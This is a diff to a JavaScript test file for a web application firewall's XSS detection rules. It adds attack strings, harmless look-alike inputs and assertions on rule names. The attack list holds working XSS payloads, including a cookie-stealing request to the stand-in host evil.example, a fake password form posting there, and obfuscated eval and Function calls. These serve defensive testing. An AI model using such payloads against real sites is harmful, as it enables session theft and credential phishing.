@@ -57,6 +57,20 @@ const ATTACKS = [
   '<img src=x onerror=fetch("//evil.example/"+document.cookie)>',
   '\'\';!--"<XSS>=&{()}',
   '<div style="font-family:foo}color=red;">x</div>',
+  // Structure and form elements, comment openers, sinks taken as values, encoded-bracket probes.
+  '<form action=//evil.example/login><input name=pass type=password>',
+  '</head><body>Site moved</body>',
+  '<textarea name=x>',
+  '<marquee>pwned</marquee>',
+  'ok<!--',
+  'f=confirm;f(document.domain)',
+  '[1,2].forEach(prompt)',
+  'self["con"+"firm"](1)',
+  'parent[\'eval\'](name)',
+  'Function.constructor(atob(name))()',
+  'setTimeout.call(null,name)',
+  '&#x003C;',
+  '\\u003e\\u003c',
 ];
 
 const LOOK_ALIKES = [
@@ -93,6 +107,14 @@ const LOOK_ALIKES = [
   'evaluation kit (eval)',
   'Please confirm (yes/no)',
   'Medical alert (bracelet)',
+  'Reply (confirm) by Friday',
+  'mode=alert; volume=low',
+  'top[3] picks for summer',
+  'window[2] seat please',
+  'Set of 4 (prompt delivery)',
+  'x &lt; y',
+  '<b>Bold</b>, <i>italic</i>, <table><tr><td>1</td></tr></table>',
+  '<img src="a.png" alt="x">',
 ];
 
 describe('waf xss', () => {
@@ -116,6 +138,17 @@ describe('waf xss', () => {
     expect(listRules('<span style="color: red">x</span>', 'xss', 2)).to.include('xss.style-attribute');
     expect(listRules('<div style="[a]color[b]:[c]red">x</div>', 'xss', 1)).to.include('xss.obfuscated-style');
     expect(listRules('<div style="x:exp\\72 ession(alert(1))">', 'xss', 1)).to.include('xss.style-injection');
+  });
+
+  it('names structure tags, comment openers, sink references and encoded-bracket probes', () => {
+    expect(listRules('<body>', 'xss')).to.include('xss.structure-tag');
+    expect(listRules('</form>', 'xss')).to.include('xss.structure-tag');
+    expect(listRules('<!-- x', 'xss')).to.include('xss.markup-comment');
+    expect(listRules('a=eval;a(name)', 'xss')).to.include('xss.js-sink-reference');
+    expect(listRules('top[8680439..toString(30)](1)', 'xss')).to.include('xss.js-sink-reference');
+    expect(listRules('&#60;', 'xss')).to.include('xss.encoded-markup-probe');
+    // The assigned name must be called: an assignment alone is a setting.
+    expect(listRules('a=eval;b=1', 'xss')).to.deep.equal([]);
   });
 
   it('flags plain markup only at paranoia 2', () => {
